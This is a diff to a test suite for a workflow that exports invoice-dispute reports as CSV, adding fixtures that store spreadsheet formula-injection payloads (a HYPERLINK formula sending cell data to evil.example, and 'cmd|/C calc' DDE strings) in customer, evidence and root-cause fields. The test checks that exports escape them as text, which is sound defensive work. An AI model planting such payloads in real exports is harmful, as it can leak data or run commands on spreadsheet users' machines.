@@ -19,6 +19,11 @@ describe('workflow: weekly dispute analysis', () => {
 		const b = await openDispute(t.ledger, { invoices: ['W-3'], category: 'commercial', evidence: 'remise non appliquée' });
 		await resolveDispute(t.ledger, { disputeId: a.disputeId, resolution: 'credit_note', rootCause: 'Price list not updated' });
 		await resolveDispute(t.ledger, { disputeId: b.disputeId, resolution: 'credit_note', rootCause: 'price list not updated' });
+		// A customer whose name and a root cause typed as spreadsheet formulas: saved as text, never run.
+		const f = await addCustomer(t.ledger, { externalId: '=HYPERLINK("http://evil.example/?"&A1,"Ouvrir")', name: '@SUM(1+1)*cmd|/C calc!A0', emails: ['compta@formula.example'] });
+		await addInvoice(t.ledger, { customerId: f, number: 'W-4', dueDate: today, amount: 50000n });
+		const d = await openDispute(t.ledger, { invoices: ['W-4'], category: 'technical', evidence: '=cmd|\' /C calc\'!A0' });
+		await resolveDispute(t.ledger, { disputeId: d.disputeId, resolution: 'credit_note', rootCause: '+1+cmd|\' /C calc\'!A0' });
 		rmSync(folder, { recursive: true, force: true });
 	});
 
@@ -34,11 +39,15 @@ describe('workflow: weekly dispute analysis', () => {
 			expectFiles(folder, [`litiges-categories-${day}.csv`, `litiges-causes-${day}.csv`]);
 			const result = await runWorkflow(workflow, { credentials: credentialsFor(t.ledger) });
 			expect(result.error).toBeUndefined();
-			expect(result.json('Categories as a table')).toEqual([
+			expect(result.json('Disputes by category')).toEqual([
 				expect.objectContaining({ category: 'commercial', disputes: 2, open: 0, resolved: 2, amounts: '2000.00 EUR' }),
 				expect.objectContaining({ category: 'logistics', disputes: 1, open: 1, resolved: 0 }),
+				expect.objectContaining({ category: 'technical', disputes: 1, open: 0, resolved: 1, amounts: '500.00 EUR' }),
 			]);
-			expect(result.json('Causes as a table')).toEqual([expect.objectContaining({ rootCause: 'Price list not updated', disputes: 2, share: 1, categories: 'commercial' })]);
+			expect(result.json('Top root causes')).toEqual([
+				expect.objectContaining({ rootCause: 'Price list not updated', disputes: 2, share: 0.667, categories: 'commercial' }),
+				expect.objectContaining({ rootCause: "'+1+cmd|' /C calc'!A0", disputes: 1, categories: 'technical', examples: expect.stringMatching(/^'=HYPERLINK\(/) }),
+			]);
 			return day;
 		} finally {
 			useRealDate();
@@ -51,6 +60,13 @@ describe('workflow: weekly dispute analysis', () => {
 		expect(causes).toContain('Price list not updated');
 		expect(causes).toContain('WA-1');
 		expect(readFileSync(path.join(folder, `litiges-categories-${day}.csv`), 'utf8').split('\n')[0]).toContain('category;disputes;open');
+		// No cell of either file starts as a formula: the customer's code, the root cause and the evidence are text.
+		for (const file of [`litiges-causes-${day}.csv`, `litiges-categories-${day}.csv`]) {
+			const cells = readFileSync(path.join(folder, file), 'utf8').split(/\r?\n/).flatMap((line) => line.split(';')).map((cell) => cell.replace(/^"/, ''));
+			expect({ file, formulas: cells.filter((cell) => /^[=+@\-]/.test(cell) && !/^-?\d/.test(cell)) }).toEqual({ file, formulas: [] });
+		}
+		expect(causes).toContain("'+1+cmd|");
+		expect(causes).toContain("'=HYPERLINK(");
 	}, 60_000);
 
 	test('with the workflow in another zone, its date is that zone\'s (Auckland is already tomorrow at 23:30 in Paris)', async () => {
